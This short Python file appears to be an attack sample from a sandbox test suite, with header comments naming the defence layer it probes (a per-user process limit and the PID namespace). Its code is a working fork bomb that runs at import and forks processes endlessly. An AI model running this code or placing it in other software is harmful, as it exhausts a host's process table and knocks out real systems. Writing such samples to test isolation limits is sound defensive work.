# attack: a fork bomb, started at import
# layer: process limit of the worker's own user (limits.processes) and the PID namespace
# imports: os
# needs: full
import os as _os

for _ in range(64):
    try:
        if _os.fork() == 0:
            while True:
                try:
                    _os.fork()
                except OSError:
                    pass
    except OSError:
        break
